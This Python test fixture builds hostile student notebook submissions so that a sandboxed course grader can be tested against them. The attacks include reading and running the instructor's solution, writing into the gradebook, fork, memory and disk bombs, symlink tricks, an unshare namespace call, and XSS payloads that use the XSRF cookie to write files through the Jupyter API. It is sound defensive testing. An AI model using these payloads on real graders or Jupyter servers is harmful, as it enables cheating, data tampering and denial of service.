"""Hostile and broken submissions, one per case that safe grading must survive.

Each builder takes the test's loopback port and returns what lands in the student's
`submitted/<student>/bn/` folder: a notebook, raw bytes for a broken file, or None for a
folder without the notebook. Students are graded in name order; `zz_reference` comes last
so that every hostile notebook runs before an honest one.
"""
import copy
import re

import nbformat

from coursekit.course import NOTEBOOK, RELEASE_NOTEBOOK, grade_id
from coursekit.examples.samples import CLASS_CELL, make_submission, solution_cells

# Written by the hostile code wherever it can; the tests look for it everywhere.
MARK = "PWNED-by-student"

READ_SOLUTIONS = r'''
import glob, json, os
# Look for the instructor's notebook from the student's folder, the way a student would.
found = glob.glob("../../../source/*/*.ipynb") + [
    path for top in ("/tmp", "/work", "/root", "/home")
    for path in glob.glob(top + "/**/source/bn/*.ipynb", recursive=True)]
print("found", found)
for path in found:
    for cell in json.load(open(path))["cells"]:
        code = "".join(cell["source"])
        if cell["cell_type"] == "code" and "ResidualNetworkWithBatchNorm(" in code:
            exec(code)
'''

WRITE_EVERYWHERE = r'''
import os
course = ["../../../gradebook.db", "../../../source/bn/MARK.txt", "../../../release/bn/MARK.txt",
          "../../../submitted/cheat/bn/MARK.txt", "../../zz_reference/bn/MARK.txt",
          "../../../MARK.txt"]
# The sandbox's own scratch space: writable, private, gone when the kernel stops.
scratch = ["/tmp/MARK.txt", os.path.expanduser("~/MARK.txt")]
for target in course + scratch:
    try:
        with open(target, "a") as handle:
            handle.write("MARK")
        print("wrote", target)
    except OSError as error:
        print("blocked", target, type(error).__name__)
open("MARK-own-folder.txt", "w").write("MARK")
'''.replace("MARK", MARK)

CALL_HOME = r'''
import socket
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"MARK")
    print("connected")
except OSError as error:
    print("no network:", error)
'''

# Fills memory to the brim, 256 MiB at a time and then in ever smaller blocks, and fails
# holding all of it: how much room is left then does not depend on the machine.
MEMORY_BOMB = r'''
def hog():
    blocks, size = [], 2**28
    while size >= 2**16:
        try:
            while True:
                blocks.append(bytearray(size))
        except MemoryError:
            size //= 2
    raise MemoryError("holding %d blocks" % len(blocks))
hog()
'''

PROCESS_BOMB = r'''
import os, time
children = []
try:
    while True:
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        children.append(pid)
finally:
    print("forked", len(children))
    for pid in children:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
'''

ENDLESS_LOOP = "while True:\n    pass\n"

# Waits rather than computes: what it shows is the interrupt swallowed (endless_loop
# computes, and over_budget's students pass the CPU budget). Computing, it held a core
# through both of the grader's waits, a minute of every run of the suite.
STUBBORN_LOOP = r'''
import time
while True:
    try:
        while True:
            time.sleep(1)
    except KeyboardInterrupt:
        pass
'''


CPU_HOG = "total = 0\nwhile True:\n    total += 1\n"


def reference():
    return make_submission(solution_cells())


RELEASE_CELLS = len(nbformat.read(RELEASE_NOTEBOOK, as_version=4).cells)


def _insert_after(notebook, cell_id, source):
    index = next(i for i, cell in enumerate(notebook.cells) if grade_id(cell) == cell_id)
    notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
    return notebook


def cheat(port):
    """Leaves the TODO as released and runs the instructor's solution instead."""
    notebook = make_submission({})
    _insert_after(notebook, CLASS_CELL, READ_SOLUTIONS)
    return _insert_after(notebook, CLASS_CELL, WRITE_EVERYWHERE)


def network(port):
    return _insert_after(reference(), "imports", CALL_HOME.replace("PORT", str(port))
                         .replace("MARK", MARK))


def memory_bomb(port):
    """Right before the network checks, which find their memory again only because the
    grader lets go of what the failed cell's frames held (grader.RELEASE_FAILED_CELL)."""
    return _insert_after(reference(), "explain_batchnorm", MEMORY_BOMB)


def process_bomb(port):
    return _insert_after(reference(), CLASS_CELL, PROCESS_BOMB)


def endless_loop(port):
    return _insert_after(reference(), CLASS_CELL, ENDLESS_LOOP)


def stubborn_loop(port):
    """Swallows every interrupt, right after the placement check: the checks before it are
    graded, the ones after it (train_eval's among them) never run."""
    return _insert_after(reference(), "test_placement", STUBBORN_LOOP)


def edited_tests(port):
    """Leaves the TODO as released and replaces the network checks with `pass`."""
    notebook = make_submission({})
    for cell in notebook.cells:
        if (grade_id(cell) or "").startswith("test_"):
            cell.source = "pass"
    return notebook


DELETED_TESTS = ("test_used", "test_placement", "test_plot_log")


def deleted_tests(port):
    notebook = reference()
    notebook.cells = [cell for cell in notebook.cells if grade_id(cell) not in DELETED_TESTS]
    return notebook


def strip(notebook):
    notebook = copy.deepcopy(notebook)
    for cell in notebook.cells:
        cell.metadata.pop("nbgrader", None)
        cell.metadata.pop("deletable", None)
        cell.metadata.pop("editable", None)
    return notebook


def stripped_metadata(port):
    """An editor dropped the nbgrader metadata; the student also added a scratch cell."""
    notebook = strip(reference())
    notebook.cells.insert(20, nbformat.v4.new_code_cell("print('my scratch work')"))
    return notebook


def stripped_and_tampered(port):
    """Stripped metadata does not let edited checks through: they are matched and restored."""
    return strip(edited_tests(port))


def unmatchable(port):
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_markdown_cell("# My own notebook"),
                      nbformat.v4.new_code_cell("print('not the assignment')")]
    return notebook


# A file outside the course that only root may read: a link to it must not leak it.
ROOT_ONLY = "/var/tmp/udl-hostile-root-only.txt"

LEAVE_LINKS = r"""
import os
links = {"leak.html": "../../../source/bn/11_3_Batch_Normalization.ipynb",
         "grades.db": "../../../gradebook.db", "config.py": "../../../nbgrader_config.py",
         "secret.txt": "ROOT_ONLY", "up": "../../.."}
for name, target in links.items():
    os.symlink(target, name)
os.mkfifo("pipe")
open("mine.txt", "w").write("mine")
os.link("mine.txt", "hard.txt")
os.makedirs("deeper")
os.symlink("../../../../source", "deeper/source")
print("left", sorted(os.listdir(".")))
""".replace("ROOT_ONLY", ROOT_ONLY)

LINK_OVER_NOTEBOOK = r"""
import os
notebook = "NOTEBOOK"
os.remove(notebook)
os.symlink("TARGET", notebook)
print("replaced", notebook, "by a link to", os.readlink(notebook))
"""


def leave_links(port):
    """Leaves links, a pipe and a hard link in its folder for the grader to follow."""
    return _insert_after(reference(), CLASS_CELL, LEAVE_LINKS)


def link_over_notebook(target):
    """Replaces its own notebook by a link, so the grader writes the graded one there."""
    def build(port):
        return _insert_after(reference(), CLASS_CELL, LINK_OVER_NOTEBOOK.replace(
            "NOTEBOOK", NOTEBOOK).replace("TARGET", target))
    return build


TMP_BOMB = r"""
# 4.5 GiB into /tmp, which lives in RAM, in files each under the file-size cap: more than
# the memory allowance of the whole submission (4 GiB).
chunk = b"x" * 2**26
written = 0
try:
    for index in range(24):
        with open("/tmp/fill-%d" % index, "wb") as handle:
            for _ in range(3):
                handle.write(chunk)
                written += 64
    print("wrote %d MiB to /tmp" % written)
except OSError as error:
    print("stopped after %d MiB:" % written, error)
"""

CHILDREN_MEMORY = r"""
import os, time
# Three children of 1.5 GiB each: every one under the per-process cap, together over 4 GiB.
children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(3 * 2**29)
            block[::4096] = b"x" * len(range(0, len(block), 4096))
            time.sleep(5)
        finally:
            os._exit(0)
    children.append(pid)
for pid in children:
    print("child ended with status", os.waitpid(pid, 0)[1])
"""

BUSY_CHILDREN = r"""
import os
# Six children that never stop computing: each under the per-process CPU cap for a while.
for _ in range(6):
    if os.fork() == 0:
        while True:
            pass
total = 0
while True:
    total += 1
"""

SPARSE_FILE = r"""
# A 2 GiB file that costs nothing until something copies it.
try:
    with open("big.bin", "wb") as handle:
        handle.seek(2 * 2**30)
        handle.write(b"end")
    print("made a 2 GiB file")
except OSError as error:
    print("stopped:", error)
"""

DISK_FILLER = r"""
import os
# Many files of 64 MiB each, every one under the file-size cap, together over the disk cap.
chunk = os.urandom(2**20) * 64
for index in range(40):
    with open("fill-%d.bin" % index, "wb") as handle:
        handle.write(chunk)
print("wrote 2.5 GiB")
"""

# The same into the kernel's home, which lies on the host's disk beside the folder.
HOME_FILLER = DISK_FILLER.replace('"fill-%d.bin" % index',
                                  'os.path.expanduser("~/fill-%d.bin") % index')

SLOW_CELL = "import time\ntime.sleep(SECONDS)\n"


def after_imports(source):
    def build(port):
        return _insert_after(reference(), "imports", source)
    return build


USER_NAMESPACE = r"""
import ctypes
# Become "root" of a user namespace of its own, as `unshare -U -r` would.
libc = ctypes.CDLL(None, use_errno=True)
result = libc.unshare(0x10000000)
print("unshare:", result, ctypes.get_errno())
"""

# What lands in submitted/<student>/bn/ besides the notebook: {file name: link target}.
SUBMITTED_LINKS = {
    "submitted_link": {"notes.txt": "../../../source/bn/11_3_Batch_Normalization.ipynb"},
}


# Student markup that would run in a browser. Each payload, if it ever ran, marks the page
# (title and window.__pwned), calls the test's listener, and tries what hurt before: a
# file written into the course folder through the instructor's Jupyter session.
PAYLOAD_JS = (
    "document.title='MARK';window.__pwned=(window.__pwned||[]).concat(['WHERE']);"
    "fetch('http://127.0.0.1:PORT/WHERE').catch(function(){});"
    "fetch('/api/contents/MARK-WHERE.txt',{method:'PUT',headers:{'X-XSRFToken':"
    "(document.cookie.match(/_xsrf=([^;]*)/)||['',''])[1]},body:JSON.stringify({type:'file',"
    "format:'text',content:'MARK'})}).catch(function(){})")
TINY_PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAA"
            "AABJRU5ErkJggg==")


def payload_js(port, where):
    return PAYLOAD_JS.replace("MARK", MARK).replace("PORT", str(port)).replace("WHERE", where)


def html_payloads_in(port, where):
    """Raw HTML that runs script, or loads from the listener, the moment it is shown."""
    def js(how):
        return payload_js(port, "%s-%s" % (where, how))
    return "\n".join([
        '<script>%s</script>' % js("script"),
        '<img src="x" onerror="%s">' % js("onerror"),
        '<svg onload="%s"></svg>' % js("svg"),
        '<details open ontoggle="%s"><summary>notes</summary></details>' % js("ontoggle"),
        '<input autofocus onfocus="%s">' % js("onfocus"),
        '<iframe src="http://127.0.0.1:%d/%s-iframe"></iframe>' % (port, where),
        "<style>@import url('http://127.0.0.1:%d/%s-style');</style>" % (port, where),
        '<img src="http://127.0.0.1:%d/%s-pixel">' % (port, where),
        '<a href="javascript:%s">a javascript: link</a>' % js("link"),
    ])


HTML_OUTPUTS = r'''
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML(RAW_HTML))
display(Javascript(SCRIPT))
display(Markdown(RAW_MARKDOWN))
display(SVG(RAW_SVG))
# nbconvert writes an image's width into the page unquoted.
display({"image/png": TINY_PNG}, raw=True, metadata={"image/png": {"width": PNG_WIDTH}})
print("displayed")
'''


def html_payloads(port):
    """The reference, with script in a markdown cell, in the written answer and in outputs."""
    notebook = reference()
    markdown = "\n\n".join([
        "## My notes\n\nSome *ordinary* markdown first.",
        html_payloads_in(port, "markdown"),
        "[a javascript: link](javascript:%s)" % payload_js(port, "markdown-mdlink")
        .replace("(", "%28").replace(")", "%29"),
        "![a pixel](http://127.0.0.1:%d/markdown-mdimage)" % port,
        "\\`<img src=x onerror=\"%s\">\\`" % payload_js(port, "markdown-backtick")])
    code = (HTML_OUTPUTS
            .replace("RAW_HTML", repr(html_payloads_in(port, "output")))
            .replace("SCRIPT", repr(payload_js(port, "output-javascript")))
            .replace("RAW_MARKDOWN", repr(html_payloads_in(port, "output-markdown")))
            .replace("RAW_SVG", repr(
                '<svg xmlns="http://www.w3.org/2000/svg" onload="%s"><script>%s</script>'
                '<circle cx="5" cy="5" r="4"/></svg>' % (payload_js(port, "output-svg-onload"),
                                                          payload_js(port, "output-svg"))))
            .replace("TINY_PNG", repr(TINY_PNG))
            .replace("PNG_WIDTH", repr(
                "1 onload=document.title='%s';window.__pwned=['output-png-width'];"
                "fetch('http://127.0.0.1:%d/output-png-width')" % (MARK, port))))
    _insert_after(notebook, "imports", code)
    index = next(i for i, cell in enumerate(notebook.cells) if grade_id(cell) == "imports")
    notebook.cells.insert(index + 1, nbformat.v4.new_markdown_cell(markdown))
    written = next(cell for cell in notebook.cells if grade_id(cell) == WRITTEN_ANSWER)
    written.source += "\n\n" + html_payloads_in(port, "written")
    return notebook


WRITTEN_ANSWER = "written_after_relu"


CASES = {
    "cheat": cheat,
    "network": network,
    "memory_bomb": memory_bomb,
    "process_bomb": process_bomb,
    "endless_loop": endless_loop,
    "stubborn_loop": stubborn_loop,
    "edited_tests": edited_tests,
    "deleted_tests": deleted_tests,
    "stripped_metadata": stripped_metadata,
    "stripped_and_tampered": stripped_and_tampered,
    "unmatchable": unmatchable,
    "not_json": lambda port: b'{"cells": [{"cell_type": "code", "source": "import tor',
    "empty": lambda port: b"",
    "missing": lambda port: None,
    "leave_links": leave_links,
    "link_to_submission": link_over_notebook("../../../submitted/zz_reference/bn/" + NOTEBOOK),
    "link_to_gradebook": link_over_notebook("../../../gradebook.db"),
    "link_to_config": link_over_notebook("../../../nbgrader_config.py"),
    "sparse_file": after_imports(SPARSE_FILE),
    "tmp_bomb": after_imports(TMP_BOMB),
    "children_memory": after_imports(CHILDREN_MEMORY),
    "submitted_link": lambda port: reference(),
    "user_namespace": after_imports(USER_NAMESPACE),
    "html_payloads": html_payloads,
    "zz_reference": lambda port: reference(),
}
# Students whose file cannot be graded: each must be named in the log and the grade table.
BROKEN = {"unmatchable": "cannot be matched to the release", "not_json": "is not valid JSON",
          "empty": "is empty", "missing": "is missing",
          "submitted_link": "holds a link"}


# Output that must be cut before it costs the grader (coursekit.grading.preprocessors).
HUGE_LINE = r'''
import time
started = time.time()
print(list(range(1_000_000)))
'''

AFTER_HUGE_LINE = 'print("the grader took %.1f s over that line" % (time.time() - started))\n'

FLOOD_LINES = r'''
for index in range(6000):
    print("line %6d " % index + "." * 90)
'''

HUGE_IMAGE = r'''
from IPython.display import display
display({"image/png": "iVBORw0KGgo" + "A" * 4_000_000, "text/plain": "<a huge image>"},
        raw=True)
'''

NOISY_ANSWER = "def predicted_increment():\n  print('noise ' * 500_000)\n"


def huge_line(port):
    """Prints a 7.9 MB line, and 3 MB more from an answer a later cell calls."""
    answers = solution_cells()
    answers["predicted_increment"] = answers["predicted_increment"].replace(
        "def predicted_increment():\n", NOISY_ANSWER, 1)
    notebook = make_submission(answers)
    _insert_after(notebook, "imports", AFTER_HUGE_LINE)
    return _insert_after(notebook, "imports", HUGE_LINE)


def flood(port):
    """Twelve cells of 600 KB of lines each, then a 4 MB image, all before the answers."""
    notebook = _insert_after(reference(), "imports", HUGE_IMAGE)
    for _ in range(12):
        _insert_after(notebook, "imports", FLOOD_LINES)
    return notebook


# Files that intake (coursekit.grading.intake) must refuse in one line, or read despite their age.
def _json_of(notebook):
    import json

    return json.loads(nbformat.writes(notebook))


def _broken(change):
    """The reference as JSON with `change` applied to it (cell 20 is a test cell)."""
    def build(port):
        import json

        content = _json_of(reference())
        change(content, content["cells"][19])
        return json.dumps(content).encode()
    return build


def long_varied_cells(port=0, cells=8, length=120_000):
    """Stripped metadata, the 56 KB self-check helpers edited, and next to them long cells
    in which no character is common: difflib's matching took 144 s per pass on this."""
    import random

    rng = random.Random(0)
    alphabet = [chr(c) for c in range(32, 127)] + [chr(0x3b1 + k) for k in range(20)]
    notebook = strip(reference())
    at = next(i for i, cell in enumerate(notebook.cells) if "Self-check helpers" in cell.source)
    notebook.cells[at].source += "\n# edited"
    for _ in range(cells):
        # A comment: nothing for the kernel to run (or to mistake for a shell command).
        notebook.cells.insert(at + 1, nbformat.v4.new_code_cell(
            "# " + "".join(rng.choice(alphabet) for _ in range(length))))
    return notebook


def many_candidates(port=0, per_gap=13, length=3000):
    """Stripped metadata, every third cell edited, and long unmatched cells everywhere:
    as many similarity comparisons as the caps allow."""
    import random

    rng = random.Random(1)
    alphabet = [chr(c) for c in range(32, 127)] + [chr(0x3b1 + k) for k in range(20)]
    notebook = strip(reference())
    cells = []
    for index, cell in enumerate(notebook.cells):
        if index % 3 == 1:
            cell.source += "\n# edited"
        cells.append(cell)
        cells.extend(nbformat.v4.new_code_cell("".join(rng.choice(alphabet)
                                                       for _ in range(length)))
                     for _ in range(per_gap))
    notebook.cells = cells
    return notebook


def version_3(port):
    """The reference saved in Jupyter's older notebook format."""
    return nbformat.writes(nbformat.convert(reference(), 3), version=3).encode()


def too_big(port):
    """The reference with 25 MB of data pasted into a cell."""
    notebook = reference()
    notebook.cells.append(nbformat.v4.new_raw_cell("0" * 25_000_000))
    return nbformat.writes(notebook).encode()


def too_many_cells(port):
    notebook = reference()
    notebook.cells += [nbformat.v4.new_markdown_cell("") for _ in range(3000)]
    return notebook


CASES.update({
    "huge_line": huge_line,
    "flood": flood,
    "long_varied_cells": long_varied_cells,
    "version_3": version_3,
    "too_big": too_big,
    "too_many_cells": too_many_cells,
    "metadata_not_a_dict": _broken(lambda nb, cell: cell["metadata"].update(nbgrader="oops")),
    "metadata_wrong_types": _broken(lambda nb, cell: cell["metadata"]["nbgrader"].update(
        points="lots")),
    "cell_not_a_dict": _broken(lambda nb, cell: nb["cells"].__setitem__(19, 5)),
    "source_not_text": _broken(lambda nb, cell: cell.update(source=[1, 2])),
    "no_cell_type": _broken(lambda nb, cell: cell.pop("cell_type")),
})
BROKEN.update({
    "too_big": " MB; grading takes notebooks of up to 20 MB",
    "too_many_cells": "has %d cells; grading takes at most 1000" % (RELEASE_CELLS + 3000),
    "metadata_not_a_dict": "cell 20 of %d has nbgrader metadata 'oops', not a dictionary"
                           % RELEASE_CELLS,
    "metadata_wrong_types": "cell 20 of %d has broken nbgrader metadata (points: 'lots' is "
                            "not of type 'number')" % RELEASE_CELLS,
    "cell_not_a_dict": "cell 20 of %d is 5, not a cell" % RELEASE_CELLS,
    "source_not_text": "cell 20 of %d has source [1, 2], not text" % RELEASE_CELLS,
    "no_cell_type": "cell 20 of %d has no cell type" % RELEASE_CELLS,
})

# The kernel's input history: with the judge, a test cell's hidden part is never sent to the
# kernel, so it cannot be printed into the feedback page (issue 13).
INPUT_HISTORY = ("print('\\n'.join(cell for cell in In if cell.startswith('# Check')))\n"
                 "print(Out)\n")


def input_history(port):
    """The reference, ending with a cell that prints every input the kernel received."""
    notebook = reference()
    notebook.cells.append(nbformat.v4.new_code_cell(INPUT_HISTORY))
    return notebook


CASES["input_history"] = input_history

# Named by the judge for what their code does (issue 12): making a user namespace takes
# ctypes, which honest answers never import; running the instructor's solution takes exec.
TAMPERING = {"user_namespace", "cheat"}


# Fixed cells edited or deleted (issue 14, items 4 and 5): grading puts them back, grades
# what the answers deserve, and says which cells it put back.
def _test_ids():
    return tuple(grade_id(cell) for cell in make_submission({}).cells
                 if (grade_id(cell) or "").startswith("test_"))


ALL_TESTS = _test_ids()


def in_release_order(tests):
    """Grading names the cells it put back in the notebook's order, whatever order the
    case listed them in."""
    return tuple(test for test in ALL_TESTS if test in tests)


def checks_up_to(test):
    return ALL_TESTS[:ALL_TESTS.index(test) + 1]


# Several in a row, twice, and the last check of the notebook: nbgrader's own repair
# (OverwriteCells.add_missing_cells) raised KeyError on these and dropped the student.
CONSECUTIVE_TESTS = ("test_used", "test_no_compounding", "test_placement",
                     "test_running_mean", "test_running_var", "test_train_eval")


def deleted_all_tests(port):
    notebook = reference()
    notebook.cells = [cell for cell in notebook.cells if grade_id(cell) not in ALL_TESTS]
    return notebook


def deleted_consecutive_tests(port):
    notebook = reference()
    notebook.cells = [cell for cell in notebook.cells
                      if grade_id(cell) not in CONSECUTIVE_TESTS]
    return notebook


def edited_imports(port):
    """The reference answers, the network written with F.relu (F comes from the release's
    imports cell), an import added to that locked cell and a check cell edited."""
    answers = solution_cells()
    answers[CLASS_CELL] = re.sub(r"(self\.bn\d\(\w+\))\.relu\(\)", r"F.relu(\1)",
                                 answers[CLASS_CELL])
    assert answers[CLASS_CELL].count("F.relu(") == 5
    notebook = make_submission(answers)
    for cell in notebook.cells:
        if grade_id(cell) == "imports":
            cell.source = cell.source.replace("import mnist1d\n", "import mnist1d\nimport math\n")
        elif grade_id(cell) == "test_used":
            cell.source += "\nprint('this check is fine')"
    # A record of its own in the notebook's metadata, where the grader writes what it put
    # back: the grader's replaces it.
    notebook.metadata["udl"] = {"fixed_cells_edited": [], "fixed_cells_put_back": ["title"]}
    return notebook


CASES.update({
    "deleted_all_tests": deleted_all_tests,
    "deleted_consecutive_tests": deleted_consecutive_tests,
    "edited_imports": edited_imports,
})

# Every student whose fixed cells grading put back: (edited cells, whose edits are not
# graded; deleted cells, put back and graded). Nobody else may be named.
FIXED_CELLS = {
    "edited_tests": (ALL_TESTS, ()),
    "stripped_and_tampered": (ALL_TESTS, ()),
    "deleted_tests": ((), in_release_order(DELETED_TESTS)),
    "long_varied_cells": (("self_check_helpers",), ()),
    "deleted_all_tests": ((), ALL_TESTS),
    "deleted_consecutive_tests": ((), in_release_order(CONSECUTIVE_TESTS)),
    "edited_imports": (("imports", "test_used"), ()),
}


# Grade cells nbgrader itself crashed on, with KeyError: 'grade_id' (issue 24, item 8): the
# student got 0 and "see the autograde log". Grading repairs them, grades the rest, and the
# record says what was wrong (coursekit.grading.intake.repair_grade_cells).
def duplicated_check(port):
    """The reference, with its first network check pasted a second time right below it."""
    notebook = reference()
    index = next(i for i, cell in enumerate(notebook.cells) if grade_id(cell) == "test_used")
    pasted = copy.deepcopy(notebook.cells[index])
    pasted.id = "pasted-check"  # Jupyter gives a pasted cell an id of its own, not its metadata
    notebook.cells.insert(index + 1, pasted)
    return notebook


def locked_without_id(port):
    """The reference, with a scratch cell of the student's marked fixed (locked) but carrying
    no grade id: nbgrader has no release cell to put back into it."""
    notebook = reference()
    index = next(i for i, cell in enumerate(notebook.cells) if grade_id(cell) == "imports")
    notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(
        "scratch = 'my own notes'\nprint(scratch)", metadata={"nbgrader": {
            "locked": True, "grade": False, "solution": False, "schema_version": 3}}))
    return notebook


# Student: what the needs-attention record says about it.
MALFORMED = {
    "duplicated_check": "the notebook has two copies of the check `test_used` (the first was "
                        "graded); download a fresh copy of the assignment",
    "locked_without_id": "is marked as one of the assignment's cells but has no id, so it "
                         "ran as your own code; download a fresh copy",
}
CASES.update({"duplicated_check": duplicated_check, "locked_without_id": locked_without_id})

# A student id (the folder's name, chosen through the exchange) full of what a terminal
# obeys (issue 24, item 7): a screen clear, a bell, a right-to-left override, a C1 control
# and DEL. Graded like anyone; every line printed shows it escaped, as ODD_ID_SHOWN.
ODD_ID = "odd\x1b[2J\x07\u202egpj.exe\x9b\x7f"
ODD_ID_SHOWN = "odd\\x1b[2J\\x07\\u202egpj.exe\\x9b\\x7f"
CASES[ODD_ID] = lambda port: reference()
# What no printed line, log line or CSV may hold raw.
CONTROL_CHARACTERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f"
                                "\u202a-\u202e\u2066-\u2069\u2028\u2029]")


# Graded a second time in the same folder, which must give the same grades: the cases
# whose repair (checks put back, restored, de-duplicated) or whose link meets what the
# first grading left behind, the honest control, and the broken files (they never reach a
# kernel). A second pass over any other case runs the same code on the same input.
GRADED_TWICE = {"zz_reference", "deleted_tests", "stripped_and_tampered", "duplicated_check",
                "locked_without_id", "link_to_gradebook", *BROKEN}
GRADED_ONCE = set(CASES) - GRADED_TWICE
